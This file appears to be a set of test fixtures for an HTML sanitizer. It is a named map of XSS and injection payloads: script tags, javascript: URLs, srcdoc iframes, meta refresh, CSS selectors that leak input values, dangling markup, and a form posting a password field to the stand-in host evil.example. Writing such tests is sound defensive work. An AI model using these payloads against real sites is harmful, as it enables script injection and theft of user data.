/** Elements that run scripts, load resources, send data, or restyle or replace the page. */
export const documents = {
	script: "<script>xss()</script>",
	"script of another host": '<script src="https://evil.example/x.js"></script>',
	"script of this host": '<script src="/app.js"></script>',
	"script as a module": '<script type=module>import "https://evil.example/x.js"; xss()</script>',
	"script after a script": "<scr<script>ipt>xss()</scr</script>ipt>",
	"script with a slash": "<script/x>xss()</script\t\n>",
	"script that imports": '<script type=importmap>{"imports":{"a":"https://evil.example/a.js"}}</script>',
	"script that speculates":
		'<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/p"],"eagerness":"immediate"}]}</script>',
	"iframe with HTML": '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
	"iframe with escaped HTML": '<iframe srcdoc="&lt;img src=x onerror=parent.xss()&gt;"></iframe>',
	"iframe with code": '<iframe src="javascript:parent.xss()"></iframe>',
	"iframe of another host": '<iframe src="https://evil.example/"></iframe>',
	"fenced frame and portal":
		'<fencedframe src="https://evil.example/"></fencedframe><portal src="https://evil.example/"></portal>',
	object: '<object data="javascript:xss()"></object><object data="https://evil.example/x.swf"></object>',
	"object with parameters": '<object><param name=src value="javascript:xss()"></object>',
	embed: '<embed src="javascript:xss()"><embed src="https://evil.example/x.swf">',
	applet: "<applet code=xss archive=https://evil.example/x.jar></applet>",
	"base element": '<base href="https://evil.example/"><a href="/x">link</a>',
	"refresh to another host": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
	"refresh to code": '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
	"Content-Security-Policy meta element": '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
	"Set-Cookie meta element": '<meta http-equiv="Set-Cookie" content="x=1">',
	"referrer meta element": '<meta name="referrer" content="unsafe-url">',
	"style sheet": '<link rel="stylesheet" href="https://evil.example/a.css">',
	"resource hints":
		"<link rel=prefetch href=https://evil.example/1><link rel=preload as=image href=https://evil.example/2><link rel=preconnect href=https://evil.example/><link rel=dns-prefetch href=//evil.example/>",
	"icon, manifest and module preload":
		"<link rel=icon href=https://evil.example/i.png><link rel=manifest href=https://evil.example/m.json><link rel=modulepreload href=https://evil.example/m.js>",
	"style with an import": '<style>@import "https://evil.example/a.css"; body { display: none }</style>',
	"style with an image": '<p style="background:url(https://evil.example/a.png)">text</p>',
	"style with a font":
		"<style>@font-face { font-family: x; src: url(https://evil.example/f.woff2) } * { font-family: x }</style>",
	"style that covers the page": '<div style="position:fixed;inset:0;z-index:999999;background:#fff">cover</div>',
	"style with expressions of old browsers":
		'<p style="width:expression(xss());behavior:url(#x);-moz-binding:url(https://evil.example/x.xml#x)">text</p>',
	"style that reads input": "<style>input[value^=a] { background: url(https://evil.example/a) }</style><input value=a>",
	"background of a table":
		'<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">cell</table>',
	"background of the body": '<body background="https://evil.example/a.png">text</body>',
	"image of another host": '<img src="https://evil.example/a.png">',
	"image with srcset": '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
	"picture with sources": '<picture><source srcset="https://evil.example/a.webp"><img></picture>',
	"image in a data URL":
		"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>xss()</script></svg>\">",
	"image in SVG": '<svg><image href="https://evil.example/a.png"/><feImage href="https://evil.example/b.png"/></svg>',
	"video and audio":
		'<video poster="https://evil.example/a.png" src="https://evil.example/a.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio><track src="https://evil.example/a.vtt">',
	"form that posts":
		'<form action="https://evil.example/"><input name=password autofocus><button formaction="https://evil.example/">send</button></form>',
	"button of another form":
		'<button form=search formaction="https://evil.example/">send</button><input form=search name=x>',
	"input with an image": '<input type=image src="https://evil.example/a.png">',
	"dangling image": "<img src='https://evil.example/?",
	"dangling link": '<a href="https://evil.example/?',
	"dangling base target": "<base target='",
	"dangling textarea": "<form action=https://evil.example/><input type=submit><textarea name=x>",
	"dangling comment": "<!-- https://evil.example/",
};
